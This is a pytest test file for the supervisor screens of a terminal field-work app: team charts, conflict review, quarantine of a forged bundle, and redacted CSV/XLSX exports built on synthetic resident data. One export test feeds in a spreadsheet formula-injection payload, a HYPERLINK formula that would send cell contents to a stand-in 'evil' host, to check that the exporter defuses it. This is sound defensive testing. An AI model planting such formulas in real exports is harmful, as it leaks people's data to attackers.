"""The supervisor's app: team view with charts, conflict review, quarantine, exports."""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterator
from pathlib import Path

import pytest
from rich.text import Text
from textual.pilot import Pilot
from textual.widgets import DataTable, Input, Static

from fieldapp.config import Config
from fieldapp.domain.clock import FixedClock
from fieldapp.domain.ops import Op, make_op_id
from fieldapp.i18n import t
from fieldapp.services import export, supervision
from fieldapp.services.workspace import Workspace
from fieldapp.store import Vault
from fieldapp.tui.app import FieldApp
from fieldapp.tui.dialogs.conflict import ConflictDialog
from fieldapp.tui.messages import WorkerFailed
from fieldapp.tui.screens.team import ConflictsScreen, QuarantineScreen, TeamScreen
from sync import merge, team
from sync.cards import TeamSecrets, b64, raw_public
from sync.merge import Merger
from tests.conftest import FAST_KDF, PASSPHRASE
from tests.test_merge import Device
from tests.tui.conftest import TODAY, settle
from tests.tui.test_flows import wait_for
from tests.tui.test_worker_errors import SECRET, assert_logged_without_personal_data, expected_toast

NOW = dt.datetime(2026, 11, 29, 9, 30)  # the supervisor's clock, for every step
R1 = "019a0000-0000-7000-8000-000000000001"
N1 = "019a0000-0000-7000-8000-000000000002"
V1 = "019a0000-0000-7000-8000-000000000003"


def op(device: Device, kind: str, rid: str, field: str, value: object) -> Op:
    device.hlc += 1 << 8
    base = device.view.get((rid, field))
    made = Op(
        make_op_id(device.hlc, device.id),
        kind,
        rid,
        field,
        value,
        device.hlc,
        device.id,
        base.op_id if base else None,
    )
    device.view[(rid, field)] = made
    device.ops.append(made)
    device.saves.append([made])
    return made


@pytest.fixture
def supervised(tmp_path: Path) -> Iterator[Path]:
    a, b = Device(1), Device(2)
    start = int(dt.datetime(2026, 11, 20, 10).timestamp() * 1000) << 16
    a.hlc = b.hlc = start
    for field, value in (
        ("name", "张三"),
        ("community", "史家社区"),
        ("gender", "male"),
        ("tags", ["elderly_alone"]),
        ("cadence", [{"activity": "home_visit", "every_days": 30}]),
    ):
        b.hear(op(a, "resident", R1, field, value))
    for field, value in (
        ("resident_id", R1),
        ("category", "housing"),
        ("description", "屋顶漏雨"),
        ("urgency", "high"),
        ("status", "open"),
        ("opened_on", "2026-11-20"),
    ):
        op(a, "need", N1, field, value)
    for field, value in (
        ("resident_id", R1),
        ("kind", "home"),
        ("started_at", "2026-11-21T10:00:00"),
        ("duration_minutes", 30),
        ("purpose", "例行探访"),
    ):
        op(b, "visit", V1, field, value)
    op(a, "resident", R1, "name", "张三丰")  # the two laptops edit the name at once
    op(b, "resident", R1, "name", "张叁")
    path = tmp_path / "sup"
    merged(path, (a, "李娜"), (b, "王芳"), forged_from=a)
    yield path


def merged(path: Path, *devices: tuple[Device, str], forged_from: Device | None = None) -> None:
    """A supervisor's vault at ``path`` that enrolled ``devices`` (each with its worker's
    name) and merged their bundles, plus one forged copy of ``forged_from``'s first."""
    secrets = TeamSecrets.generate("team0001", "史家社区督导")
    vault, _ = Vault.create(path, PASSPHRASE, kdf=FAST_KDF, clock=FixedClock(NOW))
    devs = {
        d.id: {
            "name": name,
            "sign_pub": b64(raw_public(d.key.public_key())),
            "enrolled": "2026-11-01",
            "revoked": None,
        }
        for d, name in devices
    }
    vault.commit((), kv={team.TEAM_SECRETS: secrets.to_json(), team.TEAM_DEVICES: devs})
    merger = Merger(vault)
    for device, _ in devices:
        for data in device.bundles("team0001", secrets.enc_key.public_key(), 100):
            merger.receive(data, source=f"/media/usb/{device.id}.fbundle")
    if forged_from is not None:
        forged = bytearray(forged_from.bundles("team0001", secrets.enc_key.public_key(), 100)[0])
        forged[150] ^= 1
        merger.receive(bytes(forged), source="/media/usb/forged.fbundle")
    vault.close()


def make(path: Path, lang: str = "en") -> FieldApp:
    vault = Vault.open(path, PASSPHRASE, clock=FixedClock(NOW))
    return FieldApp(
        config=Config(language=lang),
        vault_path=path,
        workspace=Workspace(vault),
        save_settings=False,
        supervisor=True,
        auto_sync=False,
    )


def rows(table: DataTable) -> list[list[str]]:
    return [[str(c) for c in table.get_row_at(i)] for i in range(table.row_count)]


async def test_team_view_shows_each_worker(supervised: Path) -> None:
    app = make(supervised)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        assert isinstance(app.screen, TeamScreen)
        table = rows(app.screen.query_one("#workers", DataTable))
        by_name = {r[0]: r for r in table}
        assert by_name["李娜"][1] == "1" and by_name["王芳"][1] == "1"  # bundles
        assert by_name["李娜"][3] == "1/0/1"  # needs listed/resolved/open
        assert by_name["王芳"][4] == "1"  # visits this month
        summary = str(app.screen.query_one("#team-summary", Static).render())
        assert "1 conflicts" in summary and "1 quarantined" in summary
        assert "Housing" in str(app.screen.query_one("#needs-bars", Static).render())
        app.close_vault()


async def test_conflict_review_keeps_one_side_and_leaves_the_list(supervised: Path) -> None:
    app = make(supervised)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await pilot.press("c")
        await settle(pilot)
        assert isinstance(app.screen, ConflictsScreen)
        assert rows(app.screen.query_one("#conflicts", DataTable))[0][2] == "Name"
        await pilot.press("enter")
        await settle(pilot)
        dialog = app.screen
        assert isinstance(dialog, ConflictDialog)
        assert {s.author for s in dialog.conflict.sides} == {"李娜", "王芳"}
        assert {s.before for s in dialog.conflict.sides} == {"张三"}
        dialog.query_one("#merged", Input).value = "张三丰（又名张叁）"
        dialog.query_one("#merged", Input).focus()
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(app.screen, ConflictsScreen)
        assert app.screen.query_one("#conflicts", DataTable).row_count == 0
        ws = app.workspace
        assert ws is not None and ws.vault.get(R1)["name"] == "张三丰（又名张叁）"
        assert merge.conflicts(ws.vault) == {}
        history = [e.field for e in ws.history(R1)]
        assert "_resolved_name" in history  # the resolution is an op: it syncs
        app.close_vault()


async def test_quarantine_list_says_why(supervised: Path) -> None:
    app = make(supervised)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await pilot.press("q")
        await settle(pilot)
        assert isinstance(app.screen, QuarantineScreen)
        reason = str(app.screen.query_one("#quarantine-reason", Static).render())
        assert "forged.fbundle" in reason and "signature" in reason
        app.close_vault()


async def test_export_from_the_app(supervised: Path, tmp_path: Path) -> None:
    target = tmp_path / "team.xlsx"
    app = make(supervised, lang="zh_CN")
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await pilot.press("x")
        await settle(pilot)
        app.screen.query_one("#path", Input).value = str(target)
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(app.screen, TeamScreen)
        app.close_vault()
    from openpyxl import load_workbook

    sheet = load_workbook(target).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][0] == "社工" and {r[0] for r in values[1:]} == {"李娜", "王芳"}


def test_csv_exports_open_in_excel_and_can_hide_ids(supervised: Path, tmp_path: Path) -> None:
    from fieldapp.domain import RecordKind, Resident
    from fieldapp.domain.idcard import make_id_number
    from fieldapp.services.records import RecordService

    with Vault.open(supervised, PASSPHRASE, clock=FixedClock(NOW)) as v:
        RecordService(v).save(
            Resident(
                name="王五",
                community="史家社区",
                phones=["13812345678"],
                id_number=make_id_number("110101", dt.date(1950, 1, 2), 7),
            )
        )
        plain, hidden = tmp_path / "r.csv", tmp_path / "r-redacted.csv"
        assert export.export_kind(v, RecordKind.RESIDENT, plain) == 2
        export.export_kind(v, RecordKind.RESIDENT, hidden, redact=True)
        raw = plain.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese right
        text = raw.decode("utf-8-sig")
        assert "13812345678" in text and "Female" not in text and "Elderly living alone" in text
        masked = hidden.read_text("utf-8-sig")
        assert "13812345678" not in masked and "138****5678" in masked
        assert "19500102" not in masked
        header = next(csv.reader(masked.splitlines()))
        assert header[:3] == ["id", "Name", "Gender"]
        data = export.resident_file(v, R1)
        assert data["resident"]["name"] == "张三丰" or data["resident"]["name"] == "张叁"
        assert {"need", "visit"} <= set(data["records"]) and data["history"]
        assert not list(tmp_path.glob(".*.tmp"))  # nothing left half-written


def test_team_report_counts(supervised: Path) -> None:
    with Vault.open(supervised, PASSPHRASE, clock=FixedClock(NOW)) as v:
        report = {r.name: r for r in supervision.team_report(v, TODAY)}
        assert report["李娜"].residents + report["王芳"].residents == 1
        assert report["王芳"].visits_per_week[-2:] == [1, 0]  # Sat 21 Nov: last week, not this
        assert sum(r.conflicts for r in report.values()) == 1


def test_team_report_leaves_an_archived_resident_out_of_the_count(tmp_path: Path) -> None:
    """An archived resident is out of every list and count: the team report's too."""
    a = Device(1)
    a.hlc = int(dt.datetime(2026, 11, 20, 10).timestamp() * 1000) << 16
    kept, shelved = R1, "019a0000-0000-7000-8000-000000000009"
    for rid, name in ((kept, "张三"), (shelved, "李四")):
        op(a, "resident", rid, "name", name)
        op(a, "resident", rid, "community", "史家社区")
        op(a, "resident", rid, "cadence", [{"activity": "home_visit", "every_days": 7}])
    need = "019a0000-0000-7000-8000-00000000000a"
    for field, value in (
        ("resident_id", shelved),
        ("category", "housing"),
        ("description", "屋顶漏雨"),
        ("urgency", "high"),
        ("status", "open"),
        ("opened_on", "2026-11-20"),
    ):
        op(a, "need", need, field, value)
    op(a, "resident", shelved, "archived", True)
    merged(tmp_path / "sup", (a, "李娜"))
    with Vault.open(tmp_path / "sup", PASSPHRASE, clock=FixedClock(NOW)) as v:
        assert v.count("resident") == 2  # both merged; one of them archived
        (row,) = supervision.team_report(v, TODAY)
        assert row.name == "李娜" and row.residents == 1
        assert row.overdue == 1  # the kept resident's weekly visit, never made
        assert (row.needs_listed, row.needs_open) == (0, 0)  # the archived one's need


@pytest.mark.parametrize("lang", ["zh_CN", "en"])
@pytest.mark.parametrize("screen", ["team", "conflicts", "conflict", "quarantine", "export"])
def test_snapshots(snap_compare: object, supervised: Path, lang: str, screen: str) -> None:
    keys = {
        "team": [],
        "conflicts": ["c"],
        "conflict": ["c", "enter"],
        "quarantine": ["q"],
        "export": ["x"],
    }[screen]

    async def run(pilot: Pilot[None]) -> None:
        await settle(pilot)
        for key in keys:
            await pilot.press(key)
            await settle(pilot)

    app = make(supervised, lang)
    try:
        assert snap_compare(app, terminal_size=(80, 24), run_before=run)  # type: ignore[operator]
    finally:
        app.close_vault()


def test_needs_over_time(supervised: Path) -> None:
    with Vault.open(supervised, PASSPHRASE, clock=FixedClock(NOW)) as v:
        listed, resolved = supervision.needs_per_week(v, TODAY)
        assert listed[-2:] == [1, 0] and sum(resolved) == 0  # opened Fri 20 Nov


def test_exports_never_carry_live_formulas(tmp_path: Path, vault: Vault) -> None:
    target = tmp_path / "x.csv"
    export.write_table(
        vault,
        target,
        ["name"],
        [['=HYPERLINK("http://evil/?"&A1,"click")'], ["@SUM(1)"], ["张三"]],
    )
    text = target.read_text("utf-8-sig")
    assert "\n\"'=HYPERLINK" in text and "'@SUM(1)" in text and "张三" in text
    xlsx = tmp_path / "x.xlsx"
    export.write_table(vault, xlsx, ["name"], [["=1+1"]])
    from openpyxl import load_workbook

    assert load_workbook(xlsx).active["A2"].value == "'=1+1"


def test_a_residents_file_includes_deleted_linked_records(supervised: Path) -> None:
    from fieldapp.services.records import RecordService

    with Vault.open(supervised, PASSPHRASE, clock=FixedClock(NOW)) as v:
        RecordService(v).delete(V1)
        data = export.resident_file(v, R1)
        assert any(r["id"] == V1 and r.get("_deleted") for r in data["records"]["visit"])


@pytest.mark.parametrize("lang", ["zh_CN", "en"])
async def test_team_table_columns_fit_their_values(supervised: Path, lang: str) -> None:
    """A CJK header narrower than its values must not clip them ("11-29 09:3")."""
    app = make(supervised, lang)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        table = app.screen.query_one("#workers", DataTable)
        for i, column in enumerate(table.columns.values()):
            widest = max(Text(str(table.get_row_at(r)[i])).cell_len for r in range(table.row_count))
            assert column.width >= widest, (str(column.label), column.width, widest)
        app.close_vault()


@pytest.mark.parametrize("lang", ["en", "zh_CN"])
async def test_a_supervisor_whose_vault_holds_an_unreadable_record_is_told_not_shown_nothing(
    supervised: Path,
    monkeypatch: pytest.MonkeyPatch,
    toasts: list[tuple[str, str]],
    worker_failures: list[WorkerFailed],
    lang: str,
) -> None:
    def unreadable(*args: object, **kwargs: object) -> None:
        raise KeyError(SECRET)  # a record without the field the report reads

    monkeypatch.setattr(supervision, "team_index", unreadable)
    app = make(supervised, lang)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        assert isinstance(app.screen, TeamScreen)
        assert worker_failures and {f.group for f in worker_failures} == {"team"}
        assert toasts == [("error", expected_toast(worker_failures[0]))]  # said once
        assert str(app.screen.query_one("#team-summary", Static).render()) == t("ui.load_failed")
        await pilot.press("c")  # the rest of the team view still works
        await wait_for(pilot, lambda: isinstance(app.screen, ConflictsScreen))
        await settle(pilot)
        count = str(app.screen.query_one("#conflicts-count", Static).render())
        assert count == t("ui.conflicts_count", n=1)
        app.close_vault()
    assert_logged_without_personal_data("KeyError")


async def test_the_conflict_list_names_the_record_kind_as_such(supervised: Path) -> None:
    """The column of the record's kind says so (记录类型), not 方式 (a visit's kind)."""
    app = make(supervised, "zh_CN")
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await pilot.press("c")
        await settle(pilot)
        assert isinstance(app.screen, ConflictsScreen)
        table = app.screen.query_one("#conflicts", DataTable)
        headers = [str(c.label) for c in table.columns.values()]
        assert headers[1] == "记录类型"
        app.close_vault()


@pytest.mark.parametrize("lang", ["zh_CN", "en"])
async def test_the_team_table_tells_when_the_last_change_was_made_and_when_received(
    supervised: Path, lang: str
) -> None:
    """Made (the bundle's newest HLC stamp, 20 Nov 10:00) → received (merged on 29 Nov)."""
    app = make(supervised, lang)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        table = rows(app.screen.query_one("#workers", DataTable))
        assert {r[-1] for r in table} == {"11-20 10:00→11-29"}
        app.close_vault()


async def test_stats_kept_before_the_change_time_was_recorded_still_read(supervised: Path) -> None:
    with Vault.open(supervised, PASSPHRASE, clock=FixedClock(NOW)) as v:
        for entry in team.devices(v):
            stats = dict(v.get_meta(merge.STATS + entry.device_id, {}))
            assert stats.pop("last_hlc") > 0
            v.commit((), kv={merge.STATS + entry.device_id: stats})
        report = supervision.team_report(v, TODAY)
        assert {(r.last_made, r.last_at) for r in report} == {(None, "2026-11-29T09:30:00")}
        header, table = export.summary_table(v, TODAY)
    assert header[1:3] == [t("ui.team_col_last_made"), t("ui.team_col_last_at")]
    assert {(row[1], row[2]) for row in table} == {("", "2026-11-29T09:30:00")}
    app = make(supervised)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        assert {r[-1] for r in rows(app.screen.query_one("#workers", DataTable))} == {"11-29 09:30"}
        app.close_vault()


def test_a_bundle_made_and_received_the_same_day_shows_the_day_once() -> None:
    from fieldapp.tui.screens.team import _last_bundle

    row = supervision.WorkerRow("d", "李娜", False, last_at="2026-11-29T09:30:00")
    assert _last_bundle(row) == "11-29 09:30"  # stats kept before the change time
    row.last_made = "2026-11-29T09:12:41"
    assert _last_bundle(row) == "11-29 09:12→09:30"
    assert _last_bundle(supervision.WorkerRow("d", "王芳", False)) == "—"


@pytest.mark.parametrize("lang", ["en", "zh_CN"])
async def test_the_team_view_is_drawn_from_what_was_kept_while_the_records_are_read(
    supervised: Path, monkeypatch: pytest.MonkeyPatch, lang: str
) -> None:
    """A supervisor's unlock: the team view is drawn from the index the last session kept
    before the records are read (at a district, seconds), keys pressed on it wait, and are
    pressed on the team view once the vault is open (here: c, the conflicts)."""
    from fieldapp.services import team_view
    from fieldapp.tui.screens.team import TeamPreview
    from tests.tui.test_today import _slow_records

    ws = Workspace(Vault.open(supervised, PASSPHRASE, clock=FixedClock(NOW)))
    expected = ws.team_view()
    ws.close(keep_today=False, keep_team=True)
    reached, release = _slow_records(monkeypatch)
    app = FieldApp(
        config=Config(language=lang),
        vault_path=supervised,
        save_settings=False,
        supervisor=True,
        clock=FixedClock(NOW + dt.timedelta(days=2)),
        auto_sync=False,
    )
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await pilot.press(*PASSPHRASE, "enter")
        await wait_for(
            pilot, lambda: isinstance(app.screen, TeamPreview) and app.screen.painted.is_set()
        )
        preview = app.screen
        assert isinstance(preview, TeamPreview) and reached.is_set() and app.workspace is None
        assert [r.name for r in preview.rows] == [r.name for r in expected.rows]
        assert preview.preview.today == (NOW + dt.timedelta(days=2)).date()
        assert rows(preview.query_one("#workers", DataTable))  # drawn, with its rows
        await pilot.press("c")
        assert preview.held == [("c", "c")]
        # As a compaction during the open would: the kept file goes. The index the preview
        # was drawn from is held, and kept again when the app closes.
        (supervised / "derived-team.fv").unlink()
        release.set()
        await wait_for(pilot, lambda: isinstance(app.screen, ConflictsScreen))
        await settle(pilot)  # the conflicts screen's own load done before the vault closes
        team_screen = app.screen_stack[-2]
        assert isinstance(team_screen, TeamScreen) and not isinstance(team_screen, TeamPreview)
        assert team_screen.rows is preview.rows  # the view drawn, taken as it is
        # What was drawn is what the records give, on the day shown: one pass, nothing kept.
        assert app.workspace is not None
        fresh = supervision.team_view(
            supervision.team_index(app.workspace.vault), app.workspace.today()
        )
        assert preview.preview == fresh
        app.close_vault()
    again = Vault.open(supervised, PASSPHRASE, clock=FixedClock(NOW))
    assert team_view.decode(again.load_derived(team_view.INDEX_NAME) or b"") is not None
    again.close(compact=False)


async def test_a_team_taller_than_the_screen_keeps_its_summary_line_in_sight(
    tmp_path: Path,
) -> None:
    """Thirty workers at 80×24: after the unlock, the team view is shown at once and the
    table takes the focus without scrolling the screen (the summary line stays on top)."""
    path = tmp_path / "big"
    merged(path, *((Device(i), f"社工{i:02d}") for i in range(1, 31)))
    app = FieldApp(
        config=Config(language="zh_CN"),
        vault_path=path,
        save_settings=False,
        supervisor=True,
        clock=FixedClock(NOW),
        auto_sync=False,
    )
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await pilot.press(*PASSPHRASE, "enter")
        await wait_for(pilot, lambda: isinstance(app.screen, TeamScreen) and bool(app.screen.rows))
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, TeamScreen) and len(screen.rows) == 30
        table = screen.query_one("#workers", DataTable)
        assert app.focused is table
        assert screen.scroll_offset.y == 0
        assert screen.query_one("#team-summary", Static).region.y == 1  # under the header
        app.close_vault()
